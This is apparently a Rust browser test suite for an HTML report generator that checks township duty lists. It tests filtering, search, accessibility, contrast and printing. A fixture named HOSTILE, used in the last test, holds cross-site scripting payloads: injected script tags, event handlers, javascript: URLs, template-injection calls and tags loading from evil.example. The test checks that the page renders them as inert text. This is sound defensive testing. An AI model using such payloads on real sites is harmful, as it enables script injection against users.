//! The page in a real browser: opened from disk, filtered, searched, printed, with documents in it that mean harm.
#![cfg(unix)]
#![allow(clippy::unwrap_used, reason = "a test fails where it must")]
#![expect(
    clippy::disallowed_methods,
    clippy::disallowed_macros,
    reason = "the test writes pages and asks the environment for a browser"
)]

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::json;

mod changes;
mod chromium;

use chromium::Browser;

/// The report on some lists as a page in `folder`.
fn page(folder: &Path, lists: &str, language: &str) -> PathBuf {
    let file = folder.join(format!("{language}.html"));
    let output = Command::new(env!("CARGO_BIN_EXE_qingdan"))
        .args([
            "check",
            lists,
            "--lang",
            language,
            "--preview",
            "--format",
            "html",
            "-o",
        ])
        .arg(&file)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .env_clear()
        .output()
        .unwrap();
    assert!(output.status.code() == Some(1), "{output:?}");
    file
}

const VISIBLE: &str = "document.querySelectorAll('.finding:not([hidden])').length";

#[test]
fn the_findings_are_filtered_searched_and_counted() {
    let Some(mut browser) = Browser::start() else {
        return;
    };
    let folder = tempfile::tempdir().unwrap();
    browser.open(&page(folder.path(), "seeds", "zh"));
    assert_eq!(browser.ask("document.documentElement.lang"), "zh-Hans");
    let all = browser.count("document.querySelectorAll('.finding').length");
    assert_eq!(browser.count(VISIBLE), all);
    let told = format!("显示 {all} 处，共 {all} 处");
    assert_eq!(browser.ask("document.getElementById('count').textContent"), told);

    // The severities: unticked one by one; each takes away what it said it has.
    for severity in ["warning", "info"] {
        let before = browser.count(VISIBLE);
        let own = browser.count(&format!(
            "+document.querySelector('[data-of=\"severity:{severity}\"]').textContent"
        ));
        assert!(own > 0);
        browser.click(&format!("input[value={severity}]"));
        assert_eq!(browser.count(VISIBLE), before - own);
    }
    let errors = browser.count(VISIBLE);
    assert_eq!(
        browser.count("document.querySelectorAll('.finding.error').length"),
        errors
    );
    // Groups without findings are gone, and the others count what is left.
    let left = "[...document.querySelectorAll('.chapter:not([hidden]) [data-count=chapter]')].reduce((sum, one) => sum + +one.textContent, 0)";
    assert_eq!(browser.count(left), errors);
    assert!(browser.count("document.querySelectorAll('.duty[hidden]').length") > 0);
    browser.click("#filters [type=reset]");
    browser.ask("new Promise((done) => setTimeout(done, 50))");
    assert_eq!(browser.count(VISIBLE), all);

    // Each choice, by the keyboard, leaves as many as it announced.
    for name in ["chapter", "list", "department", "rule"] {
        browser.ask(&format!("document.querySelector('[name={name}]').focus()"));
        browser.press("ArrowDown", 40);
        let chosen = format!("document.querySelector('[name={name}]').selectedOptions[0]");
        assert_ne!(browser.ask(&format!("{chosen}.value")), "");
        let announced = browser.count(&format!("+{chosen}.textContent.match(/（(\\d+)）$/)[1]"));
        assert!(announced > 0 && announced < all, "{name}: {announced}");
        assert_eq!(browser.count(VISIBLE), announced, "{name}");
        browser.press("ArrowUp", 38);
        assert_eq!(browser.count(VISIBLE), all);
    }

    // A word of a list, in whatever field.
    browser.click("[name=words]");
    browser.type_text("市场监督管理局 无证");
    browser.ask("new Promise((done) => setTimeout(done, 200))");
    let found = browser.count(VISIBLE);
    assert!(found < all);
    let holding = "[...document.querySelectorAll('.finding:not([hidden])')].filter((one) => one.closest('.duty').textContent.includes('市场监督管理局')).length";
    assert_eq!(browser.count(holding), found);
    assert_eq!(browser.complaints(), [""; 0]);
}

#[test]
fn it_is_read_without_a_script_on_a_phone_by_keyboard_and_on_paper() {
    let Some(mut browser) = Browser::start() else {
        return;
    };
    let folder = tempfile::tempdir().unwrap();
    let file = page(folder.path(), "seeds", "en");
    browser.call("Emulation.setScriptExecutionDisabled", json!({"value": true}));
    browser.open(&file);
    assert_eq!(browser.ask("document.documentElement.lang"), "en");
    assert!(browser.count(VISIBLE) > 100);
    assert_eq!(browser.ask("document.getElementById('filters').hidden"), true);
    browser.call("Emulation.setScriptExecutionDisabled", json!({"value": false}));

    for (width, scheme) in [(390, "light"), (1280, "light"), (1280, "dark")] {
        let size = json!({"width": width, "height": 844, "deviceScaleFactor": 1, "mobile": width < 600});
        browser.call("Emulation.setDeviceMetricsOverride", size);
        let features = json!({"features": [{"name": "prefers-color-scheme", "value": scheme}]});
        browser.call("Emulation.setEmulatedMedia", features);
        browser.open(&file);
        assert_eq!(
            browser.count("document.documentElement.scrollWidth"),
            width,
            "nothing sticks out"
        );
        assert_eq!(browser.ask(CONTRAST), json!([]), "at {width} pixels, {scheme}");
    }
    assert_eq!(browser.ask(STRUCTURE), json!([]));

    browser.press("Tab", 9);
    assert_eq!(browser.ask("document.activeElement.className"), "skip");
    let printed = browser.call("Page.printToPDF", json!({"preferCSSPageSize": true}));
    let printed = printed["data"].as_str().unwrap();
    assert!(
        printed.starts_with("JVBERi") && printed.len() > 50_000,
        "a PDF of many pages"
    );
    assert_eq!(browser.complaints(), [""; 0]);
}

/// Texts whose contrast with what lies behind them is below 4.5 (WCAG 2.2, 1.4.3), by their looks.
const CONTRAST: &str = "(() => {
  const color = (text) => { const parts = text.match(/[\\d.]+/g).map(Number); return parts.length < 4 ? [...parts, 1] : parts; };
  const light = (rgb) => { const [r, g, b] = rgb.map((part) => part / 255).map((part) => part <= .04045 ? part / 12.92 : ((part + .055) / 1.055) ** 2.4);
    return .2126 * r + .7152 * g + .0722 * b; };
  const faults = new Set();
  for (const one of document.querySelectorAll('body *')) {
    if (![...one.childNodes].some((node) => node.nodeType === 3 && node.data.trim()) || one.closest('svg, script, style, option')) continue;
    if (!one.getClientRects().length || one.classList.contains('skip')) continue;
    let at = one, behind;
    while (at && (behind = color(getComputedStyle(at).backgroundColor))[3] < 1) at = at.parentElement;
    const [a, b] = [light(color(getComputedStyle(one).color).slice(0, 3)), light((behind || [255, 255, 255]).slice(0, 3))].sort((x, y) => y - x);
    const ratio = (a + .05) / (b + .05);
    if (ratio < 4.5) faults.add(`${one.tagName}.${one.className}: ${ratio.toFixed(2)}`);
  }
  return [...faults];
})()";

/// What a screen reader would miss: names of fields and pictures, landmarks, levels of headings that are skipped.
const STRUCTURE: &str = "(() => {
  const faults = [];
  for (const name of ['header', 'main', 'footer', 'nav', 'h1']) if (document.querySelectorAll(name).length !== 1) faults.push(name);
  for (const one of document.querySelectorAll('input, select')) if (!one.labels.length || !one.labels[0].textContent.trim()) faults.push(one.outerHTML);
  for (const one of document.querySelectorAll('svg')) if (!one.closest('[aria-hidden]') && !one.getAttribute('aria-label')) faults.push(one.outerHTML.slice(0, 99));
  let last = 0;
  for (const one of document.querySelectorAll('h1, h2, h3, h4, h5, h6')) {
    const level = +one.tagName[1];
    if (level > last + 1) faults.push(`${one.tagName} ${one.textContent} after h${last}`);
    last = level;
  }
  for (const link of document.querySelectorAll('a[href]')) {
    const href = link.getAttribute('href');
    if (!href.startsWith('#') || !document.getElementById(decodeURIComponent(href.slice(1)))) faults.push(href);
  }
  if (document.querySelectorAll('[role=status][aria-live=polite]').length !== 1) faults.push('status');
  return faults;
})()";

/// Every text of a list that reaches the page, written by somebody who wants it to run. Its findings mark the texts.
const HOSTILE: &str = r#"schema: qingdan/list@1
township: {name: "</title><script>owned=1</script>镇", region: ["<img src=x onerror=owned=2>省", "javascript:owned=3//市", "'\"><svg onload=owned=4>县"]}
basic:
  categories:
  - name: "</style><script>owned=5</script>"
    declared: 9
    duties:
    - {number: 1, name: "<script>window.owned=6</script>完成上级交办的其他任务"}
    - {number: 1, name: "\" onmouseover=owned=7 x=\"完成上级交办的其他任务"}
    - {number: 7, name: "--><iframe srcdoc='<script>parent.owned=8</script>'></iframe>完成上级交办的其他任务"}
cooperative:
  categories:
  - name: "{{constructor.constructor('owned=9')()}}"
    duties:
    - number: 1
      name: "javascript:owned=10//食品安全"
      departments: ["\"><script>owned=11</script>县公安局", "县公安局</option></select><script>owned=12</script>"]
      blocks:
      - departments: ["县<base href=//evil.example/>公安局"]
        clauses: ["负责查处，<link rel=stylesheet href=//evil.example/a.css><style>*{display:none}</style>，"]
      township: ["对违法行为进行处罚\u202e<script src=//evil.example/a.js></script>；；"]
"#;

#[test]
fn a_script_in_a_duty_does_not_run() {
    let Some(mut browser) = Browser::start() else {
        return;
    };
    let folder = tempfile::tempdir().unwrap();
    let lists = folder.path().join("<img src=x onerror=owned=13>.yaml");
    std::fs::write(&lists, HOSTILE).unwrap();
    let file = page(folder.path(), lists.to_str().unwrap(), "zh");
    browser.open(&file);
    // What the list says is there, as text.
    let text = browser.ask("document.body.textContent");
    for said in [
        "<script>window.owned=6</script>",
        "\" onmouseover=owned=7 x=\"",
        "<iframe srcdoc=",
        "\"><script>owned=11</script>",
        "<base href=//evil.example/>",
        "</title><script>owned=1</script>",
    ] {
        assert!(text.as_str().unwrap().contains(said), "{said}");
    }
    assert!(!text.as_str().unwrap().contains('\u{202e}'));
    for sort in [
        "img",
        "iframe",
        "link",
        "base",
        "object",
        "svg[onload]",
        "[onmouseover]",
        "[onerror]",
        "body style",
        "a:not([href^='#'])",
    ] {
        assert_eq!(
            browser.count(&format!("document.querySelectorAll({sort:?}).length")),
            0,
            "{sort}"
        );
    }
    assert_eq!(browser.count("document.scripts.length"), 1);
    // Every link, choice and fold is used once.
    browser.ask("for (const one of document.querySelectorAll('a, summary')) one.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))");
    browser.ask("for (const one of document.querySelectorAll('body *')) one.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}))");
    assert_eq!(browser.ask("typeof window.owned"), "undefined");
    assert_eq!(browser.complaints(), [""; 0]);

    // The policy alone would have held too: a script that got in is refused, and said to be.
    browser.ask(
        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'owned = 14'}))",
    );
    assert_eq!(browser.ask("typeof window.owned"), "undefined");
    assert!(
        browser
            .complaints()
            .iter()
            .any(|complaint| complaint.contains("Content Security Policy"))
    );
}
